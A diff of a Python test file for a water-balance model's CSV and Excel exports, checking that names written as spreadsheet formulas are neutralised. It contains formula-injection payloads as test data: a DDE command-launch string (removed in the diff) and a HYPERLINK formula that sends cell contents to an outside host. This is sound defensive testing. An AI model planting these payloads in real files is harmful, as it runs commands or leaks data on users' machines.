@@ -2,20 +2,29 @@
 
 from __future__ import annotations
 
+import csv
 import json
+import re
+import shutil
+import subprocess
 from collections.abc import Callable
 from pathlib import Path
 from typing import Any
 
 import netCDF4
 import numpy as np
+import openpyxl
 import pandas as pd
 import pyarrow.parquet as pq
 import pytest
 import xarray as xr
+import yaml
 
 from tests import exportkit
-from waterbal.exports import LAYOUTS, READERS
+from tests.citykit import write_city
+from waterbal import api
+from waterbal.exports import LAYOUTS, READERS, tables
+from waterbal.results import netcdf
 
 Run = Callable[..., tuple[int, str, str]]
 HIGH = ("--scenario", "growth=high", "--realization", 1)
@@ -250,17 +259,118 @@ def test_parquet(export: Any, truth: xr.Dataset) -> None:
     assert str(frame["step_end"].iloc[0]) == "2001-02-01"
 
 
-def test_text_that_a_spreadsheet_would_run(cli: Run, tmp_path: Path) -> None:
-    evil = "=cmd|' /C calc'!A0"
-    run = exportkit.ran(tmp_path, (f'demands.homes.name={{zh: "{evil}", en: "+x"}}',))
-    for layout, options in (("csv", ()), ("excel", ("--lang", "zh"))):
-        out = tmp_path / f"{layout}.csv"
-        status, _, err = cli(
-            "export", run, "-o", out, "--layout", layout, "--variable", "water_supply", "-q", *options
-        )
+EVIL = ('=HYPERLINK("http://a.b/"&A1,"see")', "+1+1", "-2+3", "\t=1+1", "\r=1+1", "＝1+1")
+"""Names that a spreadsheet would run; ``@`` begins no name of a model, but the name of a parameter."""
+
+
+QUICK = ("time.end=2002-12", "reserve={mode: none}")
+
+
+def evil_run(folder: Path) -> Path:
+    """Run a city whose farms lose water, and whose names are formulas."""
+    model = write_city(folder)
+    names = iter([*EVIL, *EVIL])
+    content = yaml.safe_load(model.read_text(encoding="utf-8"))
+    for section in ("zones", "sources", "links", "demands"):
+        for spec in content[section].values():
+            spec["name"] = {"zh": (name := next(names, "=9+9")), "en": name}
+    model.write_text(yaml.safe_dump(content, allow_unicode=True, sort_keys=False), encoding="utf-8")
+    netcdf.write(api.load(model, QUICK).run(), folder / "run.nc")
+    return folder / "run.nc"
+
+
+@pytest.fixture(scope="module")
+def evil(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    return evil_run(tmp_path_factory.mktemp("evil"))
+
+
+def cells_of(path: Path) -> list[list[str]]:
+    with path.open(encoding="utf-8-sig", newline="") as file:
+        return list(csv.reader(file))
+
+
+@pytest.mark.parametrize("options", [("csv",), ("excel",), ("excel", "--wide", "--lang", "zh")])
+def test_text_that_a_spreadsheet_would_run(
+    cli: Run, evil: Path, tmp_path: Path, options: tuple[str, ...]
+) -> None:
+    out = tmp_path / "out.csv"
+    status, _, err = cli("export", evil, "-o", out, "--variable", "water_supply", "-q", "--layout", *options)
+    assert status == 0, err
+    head, *rows = cells_of(out)
+    cells = [cell for row in (head, *rows) for cell in row]
+    numbers = [cell for cell in cells if re.fullmatch(r"-?\d+(\.\d*)?(e[-+]?\d+)?", cell)]
+    assert len(numbers) >= len(rows) > 10
+    assert not [cell for cell in set(cells) - set(numbers) if cell.startswith((*"=+-@\t\r", "＝"))]
+
+
+def test_names_are_kept_behind_the_mark(cli: Run, evil: Path, tmp_path: Path) -> None:
+    out = tmp_path / "out.csv"
+    status, _, err = cli("export", evil, "-o", out, "-q", "--layout", "csv", "--variable", "water_supply")
+    assert status == 0, err
+    table = pd.read_csv(out)
+    assert set(table["demand_name_en"]) <= {f"'{name}" for name in (*EVIL, "=9+9")}
+    assert table["water_supply [1e4 m3]"].dtype == float
+    with xr.open_dataset(evil) as file:
+        np.testing.assert_array_equal(table["water_supply [1e4 m3]"], file["water_supply"].values.ravel())
+
+
+def test_elements_of_one_name_keep_columns_of_their_own(cli: Run, evil: Path, tmp_path: Path) -> None:
+    """Both users are called =9+9."""
+    out = tmp_path / "a.csv"
+    options = ("--layout", "excel", "--variable", "water_supply", "--lang", "zh")
+    status, _, err = cli("export", evil, "-o", out, "-q", *options)
+    assert status == 0, err
+    head, first, *_ = cells_of(out)
+    assert head[1:] == ["供水量 =9+9 (homes) [1e4 m3]", "供水量 =9+9 (farms) [1e4 m3]"]
+    with xr.open_dataset(evil) as file:
+        assert [float(cell) for cell in first[1:]] == file["water_supply"].values[0, 0, :, 0].tolist()
+
+
+def test_marks_are_put_before_text_alone(tmp_path: Path) -> None:
+    columns = [
+        tables.Column("@head", np.array(["@SUM(1,2)", "\n=1", "plain", ""]), {}),
+        tables.Column("volume", np.array([-1.5, 2.0, np.nan, 0.0]), {"units": "1e4 m3"}),
+    ]
+    tables.write_csv(columns, tmp_path / "a.csv", bom=False)
+    assert cells_of(tmp_path / "a.csv") == [
+        ["'@head", "volume [1e4 m3]"], ["'@SUM(1,2)", "-1.5"], ["'\n=1", "2.0"], ["plain", ""], ["", "0.0"],
+    ]  # fmt: skip
+
+
+@pytest.mark.peers
+def test_a_spreadsheet_runs_no_name(cli: Run, tmp_path: Path) -> None:
+    """LibreOffice opens the CSV and the workbooks: no formula that is not ours, and numbers are numbers."""
+    run, changed = evil_run(tmp_path), tmp_path / "changed.nc"
+    status, _, err = cli("run", "--from", run, "-o", changed, "-q")
+    assert status == 0, err
+    made = [tmp_path / name for name in ("tidy.csv", "wide.csv", "tables.xlsx", "changes.xlsx")]
+    for arguments in (
+        ("export", run, "-o", made[0], "--layout", "csv", "--bom", "--variable", "water_supply"),
+        ("export", run, "-o", made[1], "--layout", "excel", "--variable", "water_supply", "--lang", "zh"),
+        ("report", run, "--xlsx", made[2]),
+        ("compare", run, changed, "--xlsx", made[3]),
+    ):
+        status, _, err = cli(*arguments, "-q")
         assert status == 0, err
-        cells = out.read_text(encoding="utf-8-sig").replace("\n", ",").split(",")
-        assert not [cell for cell in cells if cell.strip('"').startswith(("=", "+"))]
+    office = shutil.which("soffice")
+    assert office, "LibreOffice is not installed"
+    subprocess.run(
+        [office, f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}", "--headless", "--convert-to",
+         "xlsx", "--outdir", tmp_path / "opened", *made],
+        check=True, capture_output=True, timeout=300,
+    )  # fmt: skip
+    for path in made:
+        book = openpyxl.load_workbook(tmp_path / "opened" / f"{path.stem}.xlsx")
+        cells = [
+            cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None
+        ]
+        formulas = [str(cell.value) for cell in cells if cell.data_type == "f"]
+        if path.suffix == ".csv":
+            assert not formulas
+            assert sum(cell.data_type == "n" for cell in cells) >= 48  # two users, 24 months
+        assert not [
+            text for text in formulas if not re.fullmatch(r"=(SUM\([A-Z0-9:,]+\)|[A-Z]+\d+-[A-Z]+\d+)", text)
+        ]
 
 
 # ---- EPA SWMM
